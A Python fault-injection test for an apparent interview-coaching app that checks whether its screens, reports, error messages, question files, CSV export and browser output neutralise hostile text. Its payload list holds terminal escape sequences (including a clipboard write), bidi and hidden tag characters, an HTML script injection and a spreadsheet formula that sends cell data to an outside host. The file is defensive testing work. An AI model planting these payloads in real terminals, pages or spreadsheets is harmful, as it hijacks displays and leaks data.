"""Texts that steer a terminal, hide, or mean something to a browser or spreadsheet: harmless wherever they are shown.

    python tests/faults/injections.py [--runs N] [--seed S]

Each is put wherever a person's text stands: question, key point, words, evidence, advice, problem. It is looked for on
the screens, in the reports for people and for programs, in error messages, in exported questions, and in what the
program sends to a browser.
"""

import argparse
import asyncio
import csv
import io
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import redirect_stdout
from dataclasses import replace
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from fakes import fake_engines
from pilots import L1, bank, rubric, sample_attempt, shown, until

from coach.bank.load import parse_rubric
from coach.bank.writing import rubric_toml
from coach.cli.output import Output, print_json
from coach.domain.attempt import Attempt
from coach.domain.coverage import Coverage
from coach.domain.rubric import KeyPoint, Rubric
from coach.errors import CoachError, RubricError
from coach.plain import find_hidden, plain
from coach.report.as_json import attempt_as_json
from coach.report.as_text import attempt_as_text
from coach.settings import Settings, VoiceSettings
from coach.ui.app import CoachApp
from coach.ui.messages import AttemptChosen, PlaceChosen
from coach.ui.page import Page
from coach.ui.places import Place
from coach.ui.screens.home import HomeScreen
from coach.web.served_program import DRIVER

PAYLOADS = (
    "a\x1b[2J\x1b[1;31mred",
    "b\x1b]0;new title\x07",
    "c\x1b]52;c;ZWNobw==\x1b\\",
    "d\x1bPq#0;2;0;0;0\x1b\\",
    "e\x9b2J\x9d0;title\x9c",
    "f\x07\x08\x08\x7f\x00g",
    "g\rover the line",
    "h\u202egnihton\u202c\u2066x\u2069",
    "i" + "".join(chr(0xE0000 + ord(sign)) for sign in "obey") + "j",
    "j\u200bk\u2060l\ufeffm\u00adn\u3164",
    "k\u2028next\u2029line\x85",
    "l\ud800m\udfff",
    "[bold red]m[/] [@click=app.exit]x[/] $primary",
    "n<script>alert(1)</script><img src=x onerror=alert(2)>&amp;",
    "=HYPERLINK(\"http://a.test/?\"&A1,\"o\")",
)  # fmt: skip
"""One of each kind: CSI, OSC (title, clipboard), DCS, C1, bells and rubouts, carriage return, bidi, tags, zero-width,
line separators, half characters, markup, HTML, formula."""

PLACES = (Place.HISTORY, Place.PROGRESS, Place.MISSED, Place.COMPARISON, Place.RUBRIC, Place.PLAN, Place.SETTINGS)
"""Screens that show a person's text, beside home, result and notices."""

SERVED = """
import os, sys
from pathlib import Path
from faults.injections import PAYLOADS, poisoned_bank
from fakes import fake_engines
from coach.cli.screen import show
from coach.ui.app import CoachApp
sys.exit(show(CoachApp(fake_engines(Path(os.environ["COACH_HOME"]), poisoned_bank(PAYLOADS)))))
"""
"""The program as `coach web` starts it, with a question for every payload."""

PATIENCE = 30.0
"""Seconds after which the served program counts as hung; it draws within two."""


def poisoned_bank(payloads: Sequence[str]):
    """Make a bank of a question a payload, with the payload in every text of it."""
    return bank(
        *(
            rubric(f"q{number:02}", f"MARK{number:02} {text}", f"P {text}", topic=text, chapter=text)
            for number, text in enumerate(payloads)
        )
    )


def poisoned_attempt(text: str) -> Attempt:
    """Put a payload into everything that an attempt says."""
    whole = sample_attempt()
    words = [replace(word, text=text) if at in {3, 14, 45} else word for at, word in enumerate(whole.transcript.words)]
    points = tuple(
        replace(
            point,
            point=f"{point.point} {text}",
            reason=f"{point.reason} {text}",
            evidence=point.evidence and replace(point.evidence, text=f"{point.evidence.text} {text}"),
        )
        for point in whole.coverage.points
    )
    return replace(
        whole,
        question=f"MARK {text}",
        transcript=replace(whole.transcript, words=tuple(words)),
        coverage=Coverage(points),
        scorecard=replace(whole.scorecard, advice=(text, *whole.scorecard.advice)),
        problem=text,
        weights={**whole.weights, "whisper": text},
    )


def printed(show, encoding: str = "utf-8") -> str:
    """Give what a command prints."""
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding=encoding, errors="replace", newline="")
    with redirect_stdout(Output(stream)):
        show()
    stream.flush()
    return raw.getvalue().decode(encoding)


def reports(text: str) -> Iterator[str]:
    """Look through the reports; yields what is wrong."""
    attempt = poisoned_attempt(text)
    report = attempt_as_text(attempt)
    if find_hidden(report) or "\r" in report or "\t" in report:
        yield "text report: something steers or hides"
    if find_hidden(printed(lambda: print(f"{text}\n"))):
        yield "output of a command: something steers or hides"
    for encoding in ("utf-8", "ascii", "cp1252"):
        value = attempt_as_json(attempt)
        told = printed(lambda value=value: print_json(value), encoding)
        if find_hidden(told) or json.loads(told) != value:
            yield f"JSON in {encoding}: not the same, or something steers or hides"
    error = CoachError(f"{text} cannot be read.", text)
    if find_hidden(plain(error.message)) or "\n" in plain(error.hint):
        yield "error: something steers or hides"


def questions(text: str) -> Iterator[str]:
    """Put the payload into a question's file: refused with the key's name, or the same text on the way back."""
    wanted = Rubric("mine", f"Why? {text}", (KeyPoint("one", "It is so."),))
    if "\ud800" in text:
        return  # no file can hold half a character
    try:
        read = parse_rubric(rubric_toml(wanted), Path("mine.toml"))
    except RubricError as error:
        if "`question`" not in error.message or find_hidden(str(error)) or not find_hidden(text):
            yield f"question file: {plain(str(error))}"
        return
    if find_hidden(read.question):
        yield "question file: something that steers or hides was taken"


def exported(text: str) -> Iterator[str]:
    """Look at a question as CSV: no cell begins a formula."""
    from coach.bank.formats import write_csv
    from coach.bank.imported import Draft

    rows = list(csv.reader(io.StringIO(write_csv([Draft(text, text, (text,), text)]), newline="")))
    if any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row):
        yield "CSV: a cell begins a formula"


async def screens(text: str) -> list[str]:
    """Go through the screens; gives what is wrong."""
    wrong: list[str] = []
    with tempfile.TemporaryDirectory() as folder:
        poisoned = bank(
            rubric(L1.id, f"MARK {text}", *(f"{point.point} {text}" for point in L1.key_points), topic=text),
            *(entry.rubric for entry in poisoned_bank(PAYLOADS[:3]).entries),
        )
        settings = Settings(voice=VoiceSettings(muted=True))
        engines = fake_engines(Path(folder), poisoned, settings=settings)
        storable = text.replace("\x00", "")
        attempt = poisoned_attempt(storable)
        engines.history.save(attempt)
        app = CoachApp(engines)
        async with app.run_test(size=(100, 60)) as pilot:

            def look(where: str) -> None:
                if bad := find_hidden(shown(pilot)):
                    wrong.append(f"{where}: U+{ord(bad):04X} is drawn")

            await until(pilot, lambda: isinstance(app.screen, HomeScreen) and "MARK" in shown(pilot))
            look("home")
            screen = app.screen
            assert isinstance(screen, Page)
            screen.tell(text)
            screen.tell_error(CoachError(text, text))
            await pilot.pause()
            look("notice")
            app.post_message(AttemptChosen(attempt.id))
            await until(pilot, lambda: "of 100" in shown(pilot))
            look("result")
            for place in PLACES:
                about = {Place.COMPARISON: attempt.id, Place.RUBRIC: L1.id}.get(place, "")
                before = app.screen
                app.post_message(PlaceChosen(place, about))
                await until(pilot, lambda before=before: app.screen is not before)
                await pilot.pause(0.1)
                look(place.value)
                await pilot.press("escape")
                await pilot.pause()
            if not app.is_running or app.return_code:
                wrong.append("a text ended the program")
    return wrong


def served(payloads: Sequence[str]) -> list[str]:
    """Look at what the program sends to a browser; gives what is wrong."""
    tests = str(Path(__file__).parents[1])
    said = b""
    with tempfile.TemporaryDirectory() as folder:
        path = os.pathsep.join(filter(None, [tests, os.environ.get("PYTHONPATH")]))
        environment = {
            **os.environ, "PYTHONPATH": path, "COACH_HOME": folder, "TEXTUAL_DRIVER": DRIVER, "COLUMNS": "100",
            "ROWS": "120",
        }  # fmt: skip
        command = [sys.executable, "-c", SERVED]
        program = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment)
        assert program.stdin is not None and program.stdout is not None
        with program:
            until_then = time.monotonic() + PATIENCE
            while b"MARK14" not in said and time.monotonic() < until_then:
                said += program.stdout.read1()
            program.stdin.close()
            program.stdin = None
            said += program.stdout.read()
    drawn = said.decode("utf-8", "replace")
    wrong = [f"browser: question {number:02} is not shown" for number in range(15) if f"MARK{number:02}" not in drawn]
    wrong += [f"browser: {payload!a} is sent" for payload in payloads if find_hidden(payload) and payload in drawn]
    signs = {"\x9b", "\x9d", "\u202e", "\u200b", "\u2028", "\U000e006f", "\x07", "\x7f", "\x00", "\xad"}
    return wrong + [f"browser: U+{ord(sign):04X} is sent" for sign in signs if sign in _texts(said)]


def _texts(said: bytes) -> str:
    """Give what is drawn, without the protocol's own headers."""
    at, drawn = said.index(b"__GANGLION__\n") + len(b"__GANGLION__\n"), []
    while at < len(said):
        size = int.from_bytes(said[at + 1 : at + 5], "big")
        drawn.append(said[at + 5 : at + 5 + size] if said[at : at + 1] == b"D" else b"")
        at += 5 + size
    return re.sub("\x1b\\]22;[a-z-]*\x07", "", b"".join(drawn).decode("utf-8", "replace"))  # the shape of the pointer


def found_wrong(text: str, *, on_screens: bool = True) -> list[str]:
    """Try one payload everywhere but in the browser."""
    wrong = [*reports(text), *questions(text), *exported(text)]
    return wrong + (asyncio.run(screens(text)) if on_screens else [])


def main() -> int:
    """Print how many payloads did any harm."""
    parser = argparse.ArgumentParser(description="Show texts that steer or hide.")
    parser.add_argument("--runs", type=int, default=len(PAYLOADS), help="so many of the payloads")
    parser.add_argument("--seed", type=int, default=1, help="which ones, where not all")
    chosen = parser.parse_args()
    payloads = random.Random(chosen.seed).sample(PAYLOADS, min(chosen.runs, len(PAYLOADS)))
    bad = 0
    for payload in payloads:
        wrong = found_wrong(payload)
        bad += bool(wrong)
        print(*(f"{payload!a}: {each}" for each in wrong), sep="\n", end="\n" if wrong else "")
    in_browser = served(PAYLOADS)
    print(*in_browser, sep="\n", end="\n" if in_browser else "")
    print(f"{len(payloads)} payloads on {len(PLACES) + 3} screens, in reports and files: {bad} did harm; "
          f"in the browser: {len(in_browser)}.")  # fmt: skip
    return 1 if bad or in_browser else 0


if __name__ == "__main__":
    sys.exit(main())
